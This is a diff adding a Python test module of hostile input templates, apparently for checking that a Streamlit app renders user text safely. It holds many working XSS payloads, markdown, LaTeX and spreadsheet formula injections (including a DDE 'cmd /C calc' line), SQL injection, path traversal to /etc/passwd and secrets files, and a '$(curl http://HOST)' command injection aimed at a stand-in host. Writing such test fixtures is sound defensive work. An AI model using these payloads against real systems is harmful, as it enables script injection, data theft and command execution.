@@ -1,0 +1,192 @@
+"""Texts that would do something if they were anything but text; each is known again by its own number.
+
+A text that loads something asks `HOST` for it; a text that runs sets `window.__xss`; an element that a text
+makes has the class `evilmark`. What a text must not do is then seen without knowing what it tried.
+"""
+
+from collections.abc import Sequence
+
+RUN = "window.__xss=1"
+"""What every script does."""
+
+FOREIGN = "evil.test"
+"""A host that nobody has: asked for, it is an attempt to leave."""
+
+HTML = (
+    f"<script>{RUN}//HOST</script>",
+    f"<script class=evilmark src=http://HOST/a.js></script><b onclick={RUN}>b</b>",
+    f"<ScRiPt>{RUN}</sCrIpT><!-- HOST -->",
+    f"</script><script>{RUN}</script>HOST",
+    f"<img class=evilmark src=http://HOST/a.png onerror={RUN}>",
+    f"<img class=evilmark src=x onerror='{RUN};fetch(`http://HOST`)'>",
+    f'<img class=evilmark """><script>{RUN}</script>">HOST',
+    f"<img class=evilmark/src=//HOST/b.png/onerror={RUN}>",
+    "<img class=evilmark srcset='http://HOST/c.png 1x, http://HOST/d.png 2x'>",
+    "<picture class=evilmark><source srcset=http://HOST/e.png><img src=http://HOST/f.png></picture>",
+    "<img class=evilmark src=data:image/png;base64,iVBORw0KGgo= alt=HOST>",
+    f"<svg class=evilmark onload={RUN}><text>HOST</text></svg>",
+    f"<svg class=evilmark><animate onbegin={RUN} attributeName=x dur=1s>HOST</svg>",
+    "<svg class=evilmark><image href=http://HOST/g.svg></image><use href=http://HOST/h.svg#a></use></svg>",
+    f"<svg class=evilmark><a xlink:href=javascript:{RUN}><text y=20>HOST</text></a></svg>",
+    f"<math class=evilmark><mtext><a href=javascript:{RUN}>HOST</a></mtext></math>",
+    "<iframe class=evilmark src=http://HOST/frame></iframe>",
+    f"<iframe class=evilmark srcdoc='<script>parent.{RUN}</script>'>HOST</iframe>",
+    f"<iframe class=evilmark src=javascript:parent.{RUN}>HOST</iframe>",
+    "<object class=evilmark data=http://HOST/o></object><embed class=evilmark src=http://HOST/e>",
+    "<video class=evilmark src=http://HOST/v poster=http://HOST/p></video>",
+    f"<audio class=evilmark src=http://HOST/a onerror={RUN} autoplay></audio>",
+    f"<details class=evilmark open ontoggle={RUN}><summary>HOST</summary></details>",
+    f"<input class=evilmark autofocus onfocus={RUN} value=HOST>",
+    f"<select class=evilmark autofocus onfocus={RUN}><option>HOST</select>",
+    f"<textarea class=evilmark autofocus onfocus={RUN}>HOST</textarea>",
+    f"<div class=evilmark onmouseover={RUN} style='position:fixed;inset:0'>HOST</div>",
+    f"<div class=evilmark style='animation:a 1s' onanimationstart={RUN}>HOST</div>",
+    f"<div class=evilmark onpointerenter='{RUN}' onwheel='{RUN}' tabindex=0>HOST</div>",
+    f"<body class=evilmark onload={RUN} background=http://HOST/bg.png>",
+    f"<marquee class=evilmark onstart={RUN}>HOST</marquee>",
+    "<style class=evilmark>@import url(http://HOST/s.css);*{background:url(http://HOST/t.png)}</style>",
+    "<p class=evilmark style='background:url(http://HOST/u.png)'>x</p>",
+    "<link class=evilmark rel=stylesheet href=http://HOST/l.css><link rel=dns-prefetch href=//HOST>",
+    "<meta class=evilmark http-equiv=refresh content='0;url=http://HOST/m'>",
+    "<base class=evilmark href=http://HOST/>",
+    "<form class=evilmark action=http://HOST/f><button>Logga in</button></form>",
+    f"<a class=evilmark href=javascript:{RUN}>HOST</a>",
+    "<a class=evilmark href=http://HOST/ ping=http://HOST/ping target=_blank>Klicka</a>",
+    "<a class=evilmark href='data:text/html,<script>1</script>'>HOST</a>",
+    f"<template class=evilmark shadowrootmode=open><script>{RUN}</script>HOST</template>",
+    f"<noscript><p title='</noscript><img class=evilmark src=x onerror={RUN}>'>HOST",
+    "<table class=evilmark background=http://HOST/t><tr><td>HOST</table>",
+    "</div></div></section><h1 class=evilmark>HOST</h1>",
+    "<!-- HOST --><![CDATA[ HOST ]]><?php HOST ?>",
+    f"<x class=evilmark onclick={RUN}>HOST</x><custom-element class=evilmark>HOST</custom-element>",
+    f"&lt;img src=http://HOST onerror={RUN}&gt;",
+    f"&#60;script&#62;{RUN}//HOST&#60;/script&#62;",
+    f"&#x3c;svg onload={RUN}&#x3e;HOST",
+    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e HOST \\u003cimg src=http://HOST\\u003e",
+    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1eHOST",
+    f"'\"--></style></script><svg class=evilmark onload={RUN}>HOST",
+    f"javascript:/*--></title></style></textarea></script><svg/onload='{RUN}//HOST'>",
+)
+
+MARKDOWN = (
+    "[text](http://HOST/md)",
+    f"[text](javascript:{RUN}//HOST)",
+    f"[text](JaVaScRiPt:{RUN}//HOST)",
+    f"[text](java&#x0A;script:{RUN}//HOST)",
+    "[text](data:text/html;base64,PHNjcmlwdD4= 'HOST')",
+    f"[text](vbscript:msgbox(1)//HOST '{RUN}')",
+    "[text](//HOST/md)",
+    "[text](\\\\HOST\\md)",
+    "[text](<http://HOST/a b>)",
+    "![bild](http://HOST/md.png)",
+    "![bild](//HOST/md.png 'titel')",
+    f"![bild](data:image/svg+xml,<svg/onload={RUN}>HOST)",
+    "[![bild](http://HOST/in.png)](http://HOST/ut)",
+    "[ref][hostile] [hostile]\n\n[hostile]: http://HOST/ref",
+    "![ref][pic]\n\n[pic]: http://HOST/pic.png",
+    "fotnot[^1]\n\n[^1]: http://HOST/fot",
+    "<http://HOST/auto>",
+    "<mailto:anna@HOST>",
+    "<javascript:window.__xss=1//HOST>",
+    "http://HOST",
+    "https://HOST/a?b=c&d=e#f",
+    "//HOST/p",
+    "www.HOST",
+    "HOST/utan-protokoll",
+    "ftp://HOST/f",
+    "anna@HOST",
+    "xmpp:anna@HOST/x",
+    "# Rubrik HOST",
+    "HOST\n===",
+    "> citat HOST",
+    "- punkt HOST",
+    "1. punkt HOST",
+    "- [x] klart HOST",
+    "| a | HOST |\n|---|---|\n| 1 | ![x](http://HOST/t.png) |",
+    "```html\n<img class=evilmark src=http://HOST/kod.png>\n```",
+    "    <img class=evilmark src=http://HOST/indrag.png>",
+    "`HOST` ``HOST``",
+    "**HOST** __HOST__ *HOST* _HOST_ ~~HOST~~",
+    "HOST\\\n![x](http://HOST/brott.png)",
+    "\\[HOST](http://HOST/escape) \\![x](http://HOST/escape.png)",
+    "***\n---\nHOST",
+)
+
+STREAMLIT = (
+    ":material/delete: HOST",
+    ":smile: :+1: :-1: HOST",
+    ":streamlit: HOST",
+    ":red[HOST] :blue[http://HOST]",
+    ":blue-background[HOST] :rainbow[HOST]",
+    ":red-badge[HOST] :small[HOST]",
+    ":red[![x](http://HOST/farg.png)]",
+    "A -> HOST <- B <-> C -- D >= E <= F ~= G",
+    "$HOST^2$ $$\\frac{HOST}{2}$$",
+    f"$\\href{{javascript:{RUN}}}{{HOST}}$",
+    "$\\url{http://HOST/tex} \\includegraphics{http://HOST/tex.png}$",
+    f"$\\htmlData{{onclick={RUN}}}{{HOST}}$",
+    "\\(HOST\\) \\[HOST\\] \\begin{equation}HOST\\end{equation}",
+    "pages/start.py HOST",
+    "../pages/checks.py?som=unni&u=http://HOST",
+    "/checks?som=unni HOST",
+    "app://static/../HOST",
+)
+
+ELSEWHERE = (
+    '=IMPORTXML("http://HOST/f";"//a")',
+    '=HYPERLINK("http://HOST/h";"Klicka")',
+    '=IMAGE("http://HOST/i.png")',
+    "=cmd|' /C calc'!A0 HOST",
+    '@SUM(1+1)*WEBSERVICE("http://HOST")',
+    '+WEBSERVICE("http://HOST/plus")',
+    '-2+3+WEBSERVICE("http://HOST/minus")',
+    '\t=WEBSERVICE("http://HOST/tab")',
+    '";=1+1;"HOST\r\nny rad;2',
+    f'{{"signal": "{RUN}", "url": "http://HOST/vega.json"}}',
+    f'{{"mark": "image", "encoding": {{"url": {{"value": "http://HOST/v.png"}}}}, "x": "{RUN}"}}',
+    f"datum.constructor.constructor('{RUN}')() HOST",
+    f"'+({RUN})+' HOST",
+    f"{{{{constructor.constructor('{RUN}')()}}}} HOST",
+    f"${{{RUN}}} <%= {RUN} %> #{{{RUN}}} HOST",
+    "{{7*7}} {% include 'http://HOST' %}",
+    "%s %n %(evil)s {0} {evil.__class__} HOST",
+    "'; DROP TABLE Skolor;-- HOST",
+    "1 OR 1=1 UNION SELECT 'HOST'",
+    "../../../../etc/passwd HOST",
+    "..\\..\\secrets.toml HOST",
+    "file:///etc/passwd HOST",
+    "\\\\HOST\\share",
+    "$(curl http://HOST) `curl http://HOST` | curl http://HOST",
+    "javascript:window.__xss=1//HOST",
+    "vbscript:msgbox(1) HOST",
+    "data:text/html,<script>window.__xss=1</script>HOST",
+    "blob:http://HOST/1 view-source:http://HOST",
+    "__proto__ constructor HOST",
+    "null undefined NaN None HOST",
+)
+
+LETTERS = (
+    "\u202eTSOH\u202c HOST",
+    "\u2066HOST\u2069 \u200eHOST\u200f \u061cHOST",
+    "HO\u200bST\u200cHOST\u200d\u2060\ufeffHOST",
+    "HOST\u2028# Rubrik\u2029- punkt",
+    "HOST\x85> citat\xa0HOST",
+    "HOST\r\nrad\rrad\nrad",
+    "%00 \\0 \\u0000 HOST",
+    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 8 + " HOST",
+    "\U0001f469\u200d\U0001f4bb\U0001f3f3\ufe0f\u200d\U0001f308 HOST",
+    "\u0645\u062f\u0631\u0633\u0629 HOST \u05d1\u05d9\u05ea \u5b66\u6821",
+    "\ufdfd\U0001d573\U0001d576 \uff41\uff42 HOST",
+    "\ue000\uf8ff\U000f0000 HOST",
+    "HOST" + "A" * 600,
+    "HOST " + "ord " * 100,
+)
+
+TEMPLATES = HTML + MARKDOWN + STREAMLIT + ELSEWHERE + LETTERS
+
+
+def payloads(hosts: Sequence[str]) -> tuple[str, ...]:
+    """Every hostile text; they ask the hosts in turn, one text one host."""
+    return tuple(
+        template.replace("HOST", hosts[number % len(hosts)]) for number, template in enumerate(TEMPLATES)
+    )
